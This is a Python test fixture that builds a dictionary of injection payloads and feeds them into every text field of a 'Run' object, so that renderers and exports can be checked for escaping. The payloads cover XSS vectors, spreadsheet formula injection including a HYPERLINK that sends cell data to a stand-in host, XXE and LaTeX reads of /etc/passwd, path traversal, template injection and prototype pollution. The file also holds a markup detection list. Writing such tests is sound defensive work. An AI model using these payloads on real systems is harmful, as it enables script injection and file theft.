"""Texts that try to be more than text, and runs that carry them wherever a run holds a text that others wrote.

What would run if a page took one for markup sets `window.hostile` or asks the host `hostile.invalid` for something.
"""

from __future__ import annotations

import copy
from collections.abc import Sequence
from dataclasses import replace
from typing import Any

from workbench.runs import Run

_RUN = "window.hostile=1"

HOSTILE: dict[str, str] = {
    "html image": f'<img src="//hostile.invalid/x.png" onerror="{_RUN}">',
    "html attribute": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "html comment": f"--><script>{_RUN}</script><!--",
    "html entity": "&lt;b&gt; &amp; &#60;script&#62;",
    "html frame": f'<iframe srcdoc="<script>parent.hostile=1</script>"></iframe><a href="javascript:{_RUN}">x</a>',
    "script": f"</script><script>{_RUN}</script>",
    "script in a string": f"'\"`;{_RUN};//${{{_RUN}}}\u2028\u2029",
    "svg": f'<svg onload="{_RUN}"><script>{_RUN}</script><image href="//hostile.invalid/y.svg"/></svg>',
    "style": "</style><style>body{display:none;background:url(//hostile.invalid/z)}</style>",
    "markdown image": "![x](http://hostile.invalid/m.png)",
    "markdown link": f"[x](javascript:{_RUN}) <http://hostile.invalid> www.hostile.invalid",
    "markdown marks": "# h\n* a\n| t | u |\n|---|---|\n`c` **b** ~~s~~ > q",
    "directive": ":red[x] :material/home: :smile: :gray-badge[answer] -> <-",
    "latex": "$\\write18{touch hostile}\\input{/etc/passwd}$ \\end{document} %{}_^~#&",
    "formula": "=cmd|'/C calc'!A0",
    "formula link": '=HYPERLINK("http://hostile.invalid?"&A1,"x")',
    "formula plus": "+1+cmd()",
    "formula minus": "-2+3",
    "formula at": "@SUM(1)",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "cell break": 'a","b"\r\n"c",d;e\tf',
    "xml end": "]]></data><node id='x'/><![CDATA[",
    "xml entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
    "xml controls": "".join(map(chr, [*range(1, 9), 11, 12, *range(14, 32), 0x7F, 0x85, 0xFFFE, 0xFFFF])),
    "nul": "a\x00b",
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m\x1b]8;;http://hostile.invalid\x07x\x1b]8;;\x07\x9b31m",
    "bidirectional": "\u202eevil\u202c \u2066iso\u2069 \u200fRTL\u200e",
    "invisible": "\u200b\u200c\u200d\u2060\ufeff\u00ad\U000e0041",
    "marks": "Z" + "\u0310\u0354\u0323" * 40,
    "surrogate": "\ud83d",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈",
    "scripts": "日本語 العربية עברית हिन्दी ไทย",
    "path": "../../../../etc/passwd%00.png",
    "template": "{{7*7}} ${7*7} {0.__class__} %s %(x)s %n",
    "json": '"}],"x":[{"__proto__":{"hostile":1}}]',
    "nothing": "",
    "spaces": "   \u00a0\u3000 ",
    "long": "long" * 25_000,
}

# The same in four lots, so that one run or page carries several at a time.
LOTS: tuple[tuple[str, ...], ...] = tuple(tuple(HOSTILE.values())[start::4] for start in range(4))

# Half a character: JSON's escapes can hold it, UTF-8 cannot, and so it reaches no browser.
HALF = HOSTILE["surrogate"]

# No page may let these through as they are: they change what stands around them.
UNSEEN = tuple("\x00\x07\x1b\x7f\x9b\u202e\u202c\u2066\u2069\u200f\u200b\u2060\ufeff\u2028\u2029")

# What is left of a page's Markdown once every escaped character is taken out holds none of these.
MARKUP = ("<img", "<script", "</script", "<svg", "<style", "<iframe", "](", "![", "$", "javascript:", "http:", "www.")


def taint(value: Any, texts: Sequence[str], keys: Sequence[str]) -> Any:
    """The JSON value with one text after the other in place of the strings (or lists of them) under these keys."""
    supply = iter(texts * 400)

    def walk(value: Any, hit: bool) -> Any:
        if isinstance(value, dict):
            return {key: walk(item, key in keys) for key, item in value.items()}
        if isinstance(value, list):
            return [walk(item, hit) for item in value]
        return next(supply) if hit and isinstance(value, str) else value

    return walk(copy.deepcopy(value), False)


TAINTED = (
    "prompt", "answer", "foil", "clean", "counterfactual", "clean_tokens", "counterfactual_tokens", "answer_tokens",
    "foil_tokens", "id", "name", "text", "tokens", "source", "reason", "command", "architecture", "numpy", "fact",
)  # fmt: skip


def make_hostile(run: Run, texts: Sequence[str]) -> Run:
    """The run with these texts, in turn, as prompt, tokens, answers, memories, model and whatever else it tells."""
    about = copy.deepcopy(run.about)
    memory = about["memories"]["explicit"]
    plan = run.circuit.plan
    for place, block in enumerate(memory["blocks"]):
        block |= {"text": "x", "tokens": ["x"] * 6, "kept": [[[0, 1, 2, -1, -1, -1]] * plan.kv_heads]}
        block["id"] = f"d-{place}"
    tainted = taint(about, texts, TAINTED)
    # Of what decides how a file is read or a check runs, only words that are shown are replaced.
    tainted |= {"settings": about["settings"], "question": about["question"]}
    return replace(run, about=tainted)


def taint_words(run: Run, texts: Sequence[str]) -> Run:
    """The run with these texts for the words that say how it was measured, which no file of ours would hold."""
    words = {name: texts[place % len(texts)] for place, name in enumerate(("unit", "method", "ablation"))}
    return replace(run, circuit=replace(run.circuit, **words), scores=replace(run.scores, **words))
